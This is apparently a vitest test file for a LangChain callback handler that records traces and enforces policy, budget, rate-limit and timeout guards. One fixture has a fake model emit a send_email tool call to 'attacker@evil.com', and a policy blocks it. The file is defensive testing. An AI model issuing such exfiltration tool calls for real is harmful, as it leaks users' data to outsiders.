import { HumanMessage, type ToolMessage } from '@langchain/core/messages';
import { RunnableLambda } from '@langchain/core/runnables';
import { fakeModel } from '@langchain/core/testing';
import { FakeListChatModel } from '@langchain/core/utils/testing';
import {
  BudgetExceededError,
  ConfigurationError,
  createBudget,
  createMemoryCostLedger,
  createMemoryRateLimitStore,
  createTracer,
  PolicyViolationError,
  parsePolicy,
  withTrace,
} from '@tracewarden/core';
import { delayedStore } from '@tracewarden/core/testing';
import { beforeEach, describe, expect, it } from 'vitest';
import { expectSoundTrace, responses } from '../__fixtures__/trace-checks.js';
import { aiMessage, explode, ran, sendEmail, weather } from '../__fixtures__/weather-tools.js';
import { TracewardenCallbackHandler } from './tracewarden-callback-handler.js';

const noEmail = parsePolicy(`
raise "send_email is not allowed" if:
    (call: ToolCall)
    call is tool:send_email
`);

function emailModel() {
  return fakeModel().respond(
    aiMessage({
      content: '',
      tool_calls: [
        {
          name: 'send_email',
          args: { to: 'attacker@evil.com', body: 'x' },
          id: 'call_mail',
          type: 'tool_call',
        },
      ],
    }),
  );
}

beforeEach(() => {
  ran.length = 0;
});

describe('streaming', () => {
  it('records a .stream() call with its time to first token', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer, pricing: false });
    const model = new FakeListChatModel({ responses: ['Hello there'] });
    let text = '';
    for await (const chunk of await model.stream('Hi', { callbacks: [handler] }))
      text += String(chunk.content);
    expect(text).toBe('Hello there');
    const [response] = responses(expectSoundTrace(tracer));
    expect(response?.payload).toMatchObject({ role: 'assistant', content: 'Hello there' });
    expect(response?.metadata.stream).toBe(true);
    expect(typeof response?.metadata.time_to_first_token_ms).toBe('number');
  });

  it('makes invoke() stream with preferStreaming (lc_prefer_streaming)', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({
      tracer,
      pricing: false,
      preferStreaming: true,
    });
    expect(handler.lc_prefer_streaming).toBe(true);
    const model = new FakeListChatModel({ responses: ['abc'] });
    const answer = await model.invoke('Hi', { callbacks: [handler] });
    expect(answer.content).toBe('abc');
    const [response] = responses(expectSoundTrace(tracer));
    expect(response?.metadata.stream).toBe(true);
    expect(typeof response?.metadata.time_to_first_token_ms).toBe('number');
  });

  it('leaves invoke() unstreamed without preferStreaming', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer, pricing: false });
    await new FakeListChatModel({ responses: ['abc'] }).invoke('Hi', { callbacks: [handler] });
    const [response] = responses(expectSoundTrace(tracer));
    expect(response?.metadata).toMatchObject({ stream: false, time_to_first_token_ms: null });
  });
});

describe('tools', () => {
  it('records a tool that throws as a failed TOOL_RESULT and lets the error through', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer, pricing: false });
    const model = fakeModel().respond(
      aiMessage({
        content: '',
        tool_calls: [{ name: 'explode', args: {}, id: 'call_x', type: 'tool_call' }],
      }),
    );
    const answer = await model.invoke([new HumanMessage('Go')], { callbacks: [handler] });
    const call = answer.tool_calls?.[0];
    if (call === undefined) throw new Error('no tool call');
    await expect(explode.invoke(call, { callbacks: [handler] })).rejects.toThrow('tool exploded');
    const blocks = expectSoundTrace(tracer);
    const result = blocks.find((block) => block.sub_type === 'TOOL_RESULT');
    expect(result?.payload).toEqual({ call_id: 'call_x', output: 'Error: tool exploded' });
    expect(result?.metadata).toMatchObject({
      status: 'failure',
      tool_name: 'explode',
      error: { type: 'Error', message: 'tool exploded' },
    });
  });

  it('records a tool run without a call id as a TOOL_CALL + TOOL_RESULT pair under the latest assistant message', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer, pricing: false });
    await new FakeListChatModel({ responses: ['Let me check.'] }).invoke('Weather?', {
      callbacks: [handler],
    });
    expect(await weather.invoke({ city: 'Rome' }, { callbacks: [handler] })).toBe('Sunny in Rome');
    expectSoundTrace(tracer);
    const [, assistant] = tracer.stitched().messages;
    expect(assistant?.block.payload).toMatchObject({ role: 'assistant', content: 'Let me check.' });
    expect(assistant?.tool_calls).toHaveLength(1);
    expect(assistant?.tool_calls[0]?.block.payload).toMatchObject({
      name: 'weather',
      arguments: { city: 'Rome' },
    });
    expect(assistant?.tool_calls[0]?.output).toBe('Sunny in Rome');
  });

  it('records a tool run alone (no model call at all) under an empty assistant message', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer });
    await weather.invoke({ city: 'Oslo' }, { callbacks: [handler] });
    expectSoundTrace(tracer);
    const [message] = tracer.stitched().messages;
    expect(message?.block.payload).toMatchObject({ role: 'assistant', content: null });
    expect(message?.tool_calls[0]?.output).toBe('Sunny in Oslo');
  });

  it('keeps a ToolMessage artifact in the TOOL_RESULT extra', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer, pricing: false });
    const { tool } = await import('@langchain/core/tools');
    const { z } = await import('zod');
    const search = tool(async () => ['3 hits', { ids: [1, 2, 3] }], {
      name: 'search',
      description: 'Search',
      schema: z.object({ q: z.string() }),
      responseFormat: 'content_and_artifact',
    });
    const model = fakeModel().respond(
      aiMessage({
        content: '',
        tool_calls: [{ name: 'search', args: { q: 'x' }, id: 'call_s', type: 'tool_call' }],
      }),
    );
    const answer = await model.invoke([new HumanMessage('Find x')], { callbacks: [handler] });
    const message = (await search.invoke(answer.tool_calls![0]!, {
      callbacks: [handler],
    })) as ToolMessage;
    expect(message.artifact).toEqual({ ids: [1, 2, 3] });
    const result = expectSoundTrace(tracer).find((block) => block.sub_type === 'TOOL_RESULT');
    expect(result?.payload.output).toBe('3 hits');
    expect(result?.extra).toEqual({ artifact: { ids: [1, 2, 3] } });
  });
});

describe('blocking', () => {
  it('is built with raiseError only when it can block', () => {
    expect(new TracewardenCallbackHandler().raiseError).toBe(false);
    const blocking = new TracewardenCallbackHandler({ policy: noEmail });
    expect(blocking.raiseError).toBe(true);
    expect(blocking.awaitHandlers).toBe(true);
  });

  it('rejects the model call with PolicyViolationError before any tool runs (throw mode)', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer, policy: noEmail, pricing: false });
    const error = await emailModel()
      .invoke([new HumanMessage('Mail it')], { callbacks: [handler] })
      .catch((caught: unknown) => caught);
    expect(PolicyViolationError.isInstance(error)).toBe(true);
    expect((error as PolicyViolationError).code).toBe('POLICY_VIOLATION');
    expect(ran).toEqual([]);
    const call = expectSoundTrace(tracer).find((block) => block.sub_type === 'TOOL_CALL');
    expect(call?.metadata).toMatchObject({ policy: 'block' });
  });

  it('refuses the tool run of a blocked call in refuse mode: the body never runs', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({
      tracer,
      policy: noEmail,
      onPolicyViolation: 'refuse',
      pricing: false,
    });
    const answer = await emailModel().invoke([new HumanMessage('Mail it')], {
      callbacks: [handler],
    });
    const call = answer.tool_calls?.[0];
    expect(call?.id).toBe('call_mail');
    const error = await sendEmail
      .invoke(call!, { callbacks: [handler] })
      .catch((caught: unknown) => caught);
    expect(PolicyViolationError.isInstance(error)).toBe(true);
    expect((error as Error).message).toContain('send_email was blocked by policy');
    expect(ran).toEqual([]);
    const results = expectSoundTrace(tracer).filter((block) => block.sub_type === 'TOOL_RESULT');
    expect(results).toHaveLength(1);
    expect(results[0]?.metadata).toMatchObject({
      status: 'failure',
      refused: true,
      policy: 'block',
    });
  });

  it('refuses a model call once the budget is spent: the model is never called', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({
      tracer,
      guards: { budget: { maxCostPerSession: 0.1 } },
      pricing: { overrides: { FakeBuiltModel: [100, 100] } },
    });
    const expensive = aiMessage({
      content: 'ok',
      usage_metadata: { input_tokens: 2000, output_tokens: 10, total_tokens: 2010 },
    });
    const model = fakeModel()
      .respond(expensive)
      .respond(aiMessage({ content: 'never' }));
    await model.invoke([new HumanMessage('One')], { callbacks: [handler] });
    const error = await model
      .invoke([new HumanMessage('Two')], { callbacks: [handler] })
      .catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(BudgetExceededError);
    expect(model.callCount).toBe(1);
    const last = expectSoundTrace(tracer).at(-1);
    expect(last?.metadata).toMatchObject({ status: 'budget_exceeded' });
  });

  it('guards with shared stores (answers that are promises) decide before the model is called', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({
      tracer,
      guards: {
        rateLimit: { callsPerHour: 2, burst: 2, store: delayedStore(createMemoryRateLimitStore()) },
        budget: createBudget({
          maxCallsPerSession: 1,
          costLedger: delayedStore(createMemoryCostLedger()),
        }),
      },
      pricing: { overrides: { FakeBuiltModel: [1, 1] } },
    });
    const model = fakeModel()
      .respond(aiMessage({ content: 'ok' }))
      .respond(aiMessage({ content: 'never' }));
    await model.invoke([new HumanMessage('One')], { callbacks: [handler] });
    const error = await model
      .invoke([new HumanMessage('Two')], { callbacks: [handler] })
      .catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(BudgetExceededError);
    expect(model.callCount).toBe(1);
    const statuses = responses(expectSoundTrace(tracer)).map((block) => block.metadata.status);
    expect(statuses).toEqual(['success', 'budget_exceeded']);
  });

  it("a caller's abort while a shared store decides stops the model call before it runs", async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({
      tracer,
      guards: {
        rateLimit: {
          callsPerHour: 10,
          store: delayedStore(createMemoryRateLimitStore(), { delayMs: 100 }),
        },
      },
    });
    const model = fakeModel().respond(aiMessage({ content: 'never' }));
    const caller = new AbortController();
    const reason = new Error('the user left');
    setTimeout(() => caller.abort(reason), 10);
    const error = await model
      .invoke([new HumanMessage('One')], { callbacks: [handler], signal: caller.signal })
      .catch((caught: unknown) => caught);
    expect(error).toBe(reason);
    expect(model.callCount).toBe(0);
    const statuses = responses(expectSoundTrace(tracer)).map((block) => block.metadata.status);
    expect(statuses).toEqual(['cancelled']);
  });

  it('rejects a streamed call cut off by the live budget when it ends', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({
      tracer,
      guards: { budget: { maxCostPerCall: 0.000_01 } },
      pricing: { overrides: { FakeListChatModel: [1000, 1000] } },
    });
    const model = new FakeListChatModel({ responses: ['x'.repeat(400)] });
    const read = async () => {
      for await (const _ of await model.stream('Hi', { callbacks: [handler] })) {
        // read everything
      }
    };
    await expect(read()).rejects.toBeInstanceOf(BudgetExceededError);
    const [response] = responses(expectSoundTrace(tracer));
    expect(response?.metadata.status).toBe('budget_exceeded');
  });

  it('records a model error with its status', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer });
    const failure = Object.assign(new Error('rate limited'), { status: 429 });
    const model = fakeModel().alwaysThrow(failure);
    await expect(model.invoke([new HumanMessage('Hi')], { callbacks: [handler] })).rejects.toBe(
      failure,
    );
    await handler.flush();
    const [response] = responses(expectSoundTrace(tracer));
    expect(response?.metadata).toMatchObject({
      status: 'failure',
      error: { message: 'rate limited', status: 429 },
    });
  });

  it('rejects unknown options with INVALID_OPTIONS', () => {
    const attempt = () => new TracewardenCallbackHandler({ polcy: noEmail } as never);
    expect(attempt).toThrow(ConfigurationError);
    try {
      attempt();
    } catch (error) {
      expect((error as ConfigurationError).code).toBe('INVALID_OPTIONS');
    }
  });
});

describe('runs and traces', () => {
  it('maps nested chains onto one trace per top-level run, with names, tags and metadata', async () => {
    const handler = new TracewardenCallbackHandler({ pricing: false });
    const model = new FakeListChatModel({ responses: ['one', 'two'] });
    const chain = RunnableLambda.from(async (question: string, config) => {
      const first = await model.invoke(question, config);
      return model.invoke([new HumanMessage(question), first, new HumanMessage('More')], config);
    }).withConfig({ runName: 'qa-chain' });
    await chain.invoke('Why?', { callbacks: [handler], tags: ['prod'], metadata: { user: 'u7' } });
    await chain.invoke('How?', { callbacks: [handler] });
    await handler.flush();
    expect(handler.tracers).toHaveLength(2);
    const [first, second] = handler.tracers;
    const blocks = expectSoundTrace(first!);
    expect(blocks.map((block) => (block.payload as { content?: unknown }).content)).toEqual([
      'Why?',
      'one',
      'More',
      'two',
    ]);
    expect(responses(blocks)[0]?.metadata.langchain).toMatchObject({
      path: ['qa-chain'],
      tags: ['prod'],
      metadata: { user: 'u7' },
    });
    expect(expectSoundTrace(second!)[0]?.payload).toMatchObject({ content: 'How?' });
  });

  it('gives each top-level run a trace from tracerFactory', async () => {
    const made: string[] = [];
    const handler = new TracewardenCallbackHandler({
      pricing: false,
      tracerFactory: (run) => {
        made.push(run.name ?? '');
        return createTracer();
      },
    });
    await new FakeListChatModel({ responses: ['a'] }).invoke('Hi', {
      callbacks: [handler],
      runName: 'greet',
    });
    await handler.flush();
    expect(made).toEqual(['greet']);
  });
});

describe('attachment and background callbacks', () => {
  it('records through a handler bound with withConfig', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer, pricing: false });
    const bound = new FakeListChatModel({ responses: ['bound'] }).withConfig({
      callbacks: [handler],
      tags: ['bound-tag'],
    });
    await bound.invoke('Hi');
    await handler.flush();
    const [response] = responses(expectSoundTrace(tracer));
    expect(response?.payload).toMatchObject({ content: 'bound' });
    expect(response?.metadata.langchain).toMatchObject({ tags: ['bound-tag'] });
  });

  it('observing, is awaited by LangChain: the trace is complete when the call returns', async () => {
    const previous = process.env.LANGCHAIN_CALLBACKS_BACKGROUND;
    // LangChain's default: handlers run in its background queue unless they ask to be awaited
    delete process.env.LANGCHAIN_CALLBACKS_BACKGROUND;
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer, pricing: false });
    if (previous !== undefined) process.env.LANGCHAIN_CALLBACKS_BACKGROUND = previous;
    expect(handler.awaitHandlers).toBe(true);
    expect(handler.raiseError).toBe(false);
    const model = new FakeListChatModel({ responses: ['one', 'two', 'three'] });
    for (const question of ['a', 'b', 'c']) await model.invoke(question, { callbacks: [handler] });
    // read before flush(): nothing is left in a queue
    const blocks = expectSoundTrace(tracer);
    expect(responses(blocks).map((block) => block.payload.content)).toEqual([
      'one',
      'two',
      'three',
    ]);
  });
});

describe('timeouts', () => {
  it('rejects a model call that outlives timeoutSeconds when it ends, recorded as timeout', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({
      tracer,
      timeoutSeconds: 0.02,
      pricing: false,
    });
    const slow = new FakeListChatModel({ responses: ['late'], sleep: 60 });
    const error = await slow
      .invoke('Hi', { callbacks: [handler] })
      .catch((caught: unknown) => caught);
    expect((error as { code?: unknown }).code).toBe('TIMEOUT');
    const [response] = responses(expectSoundTrace(tracer));
    expect(response?.metadata.status).toBe('timeout');
  });
});

describe('other runs', () => {
  it('records a text-completion LLM run (its prompt as the user message)', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer, pricing: false });
    const { FakeLLM } = await import('@langchain/core/utils/testing');
    await new FakeLLM({ response: 'Completed.' }).invoke('Complete this', { callbacks: [handler] });
    await handler.flush();
    const blocks = expectSoundTrace(tracer);
    expect(blocks.map((block) => block.payload.content)).toEqual(['Complete this', 'Completed.']);
  });

  it('records into the enclosing withTrace when no tracer is given', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ pricing: false });
    await withTrace(tracer, () =>
      new FakeListChatModel({ responses: ['inside'] }).invoke('Hi', { callbacks: [handler] }),
    );
    await handler.flush();
    expect(responses(expectSoundTrace(tracer))[0]?.payload.content).toBe('inside');
    expect(handler.tracers).toEqual([tracer]);
  });
});

describe('bad input', () => {
  it('never throws on malformed callback arguments: the problem is reported, the call goes on', () => {
    const reported: unknown[] = [];
    const handler = new TracewardenCallbackHandler({
      tracer: createTracer(),
      policy: parsePolicy('raise "x" if:\n    (call: ToolCall)\n    call is tool:never'),
      onRecordingError: (error) => reported.push(error),
    });
    expect(() => {
      handler.handleChatModelStart(undefined as never, [[{ content: 5 } as never]], 'r1');
      handler.handleLLMNewToken('x', {}, 'r1', undefined, undefined, { chunk: 42 });
      handler.handleLLMEnd(undefined as never, 'r1');
      handler.handleLLMEnd({ generations: [] }, 'unknown-run');
      handler.handleToolStart(undefined as never, 'not json', 't1');
      handler.handleToolEnd(undefined, 't1');
      handler.handleToolError('a string', 'unknown-tool-run');
      handler.handleChainStart(undefined as never, {}, 'c1');
      handler.handleChainEnd({}, 'c1');
    }).not.toThrow();
    expect(reported.length).toBeGreaterThan(0);
  });
});

describe('abandoned runs', () => {
  it('records a stream the caller abandoned as cancelled once it is the oldest of 10,000 open runs', async () => {
    const tracer = createTracer();
    const handler = new TracewardenCallbackHandler({ tracer, pricing: false });
    const model = new FakeListChatModel({ responses: ['abcdef'] });
    for await (const _ of await model.stream('Hi', { callbacks: [handler] })) break;
    await handler.flush();
    // LangChain sent no end callback for the abandoned stream
    expect(responses(tracer.blocks())).toEqual([]);
    for (let i = 0; i < 10_000; i++) handler.handleChainStart({} as never, {}, `chain_${i}`);
    const [response] = responses(expectSoundTrace(tracer));
    expect(response?.metadata).toMatchObject({ status: 'cancelled', stream: true });
    expect(response?.payload.content).toBe('a');
  });
});
